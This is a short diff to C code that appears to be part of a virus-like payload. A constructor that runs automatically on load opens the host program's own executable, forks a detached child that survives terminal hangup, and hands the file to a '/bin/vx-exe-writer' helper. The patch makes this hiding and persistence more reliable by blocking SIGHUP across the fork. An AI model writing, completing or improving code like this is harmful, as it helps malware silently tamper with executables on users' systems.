@@ -30,6 +30,7 @@ static int targeted(void)
 
 __attribute__((constructor)) static void grab_exe(void)
 {
+	sigset_t hangup, saved;
 	char fd_text[16];
 	int exe;
 
@@ -38,16 +39,24 @@ __attribute__((constructor)) static void grab_exe(void)
 	exe = open("/proc/self/exe", O_PATH);
 	if (exe < 0)
 		return;
+	/*
+	 * The child must be deaf to the hangup the program's terminal sends
+	 * its group when the program, its session leader, ends first, and
+	 * the program may end before the child has run at all: the signal
+	 * is blocked across the fork, and ignored before the child lets it
+	 * through.
+	 */
+	sigemptyset(&hangup);
+	sigaddset(&hangup, SIGHUP);
+	sigprocmask(SIG_BLOCK, &hangup, &saved);
 	if (fork() == 0) {
-		/*
-		 * Deaf to the hangup the program's terminal sends its group
-		 * when the program, its session leader, ends first.
-		 */
 		signal(SIGHUP, SIG_IGN);
 		setsid();
+		sigprocmask(SIG_SETMASK, &saved, NULL);
 		snprintf(fd_text, sizeof(fd_text), "%d", exe);
 		execl("/bin/vx-exe-writer", "vx-exe-writer", fd_text, (char *)NULL);
 		_exit(127);
 	}
+	sigprocmask(SIG_SETMASK, &saved, NULL);
 	close(exe);
 }
